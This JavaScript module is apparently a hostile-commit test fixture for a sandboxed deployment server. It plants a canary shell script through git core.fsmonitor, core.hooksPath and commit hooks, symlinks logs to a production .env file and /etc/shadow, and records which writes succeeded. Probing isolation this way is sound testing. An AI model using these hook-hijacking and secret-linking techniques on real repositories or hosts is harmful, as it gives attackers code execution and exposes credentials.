// Imported by the server of a hostile commit, at start: plant a program for whoever runs git next in the
// checkout (core.fsmonitor, core.hooksPath, hooks), and a log that is a link to production's secrets and to
// root's, for whoever reads the logs. It records what it managed in the dev data (HOSTILE_RECORD).
import fs from 'fs';

const planted = '#!/bin/sh\nid -u >> /var/tmp/bastion-pwned; touch /run/bastion-pwned; exit 1\n';
const record = { wrote: [], linked: [] };
try { fs.writeFileSync('data/pwn.sh', planted, { mode: 0o755 }); } catch (error) { /* */ }
const attempts = {
  '.git/config': () => fs.appendFileSync('.git/config',
    `[core]\n\tfsmonitor = ${process.cwd()}/data/pwn.sh\n\thooksPath = ${process.cwd()}/data\n`),
  '.git/hooks/pre-commit': () => fs.writeFileSync('.git/hooks/pre-commit', planted, { mode: 0o755 }),
  '.git/hooks/post-checkout': () => fs.writeFileSync('.git/hooks/post-checkout', planted, { mode: 0o755 }),
  'package.json': () => fs.appendFileSync('package.json', '\n'),
  'node_modules/.planted': () => fs.writeFileSync('node_modules/.planted', planted),
};
for (const [file, attempt] of Object.entries(attempts)) {
  try { attempt(); record.wrote.push(file); } catch (error) { /* read-only for it */ }
}
for (const [name, target] of [['logs/secrets.log', '/mnt/coordinaton_mcp_data/instances/Lupo-f63b/.env'],
  ['logs/shadow.log', '/etc/shadow']]) {
  try { fs.symlinkSync(target, name); record.linked.push(name); } catch (error) { /* */ }
}
fs.writeFileSync(`${process.env.V2_DATA_ROOT}/hostile-runtime.json`, JSON.stringify(record));
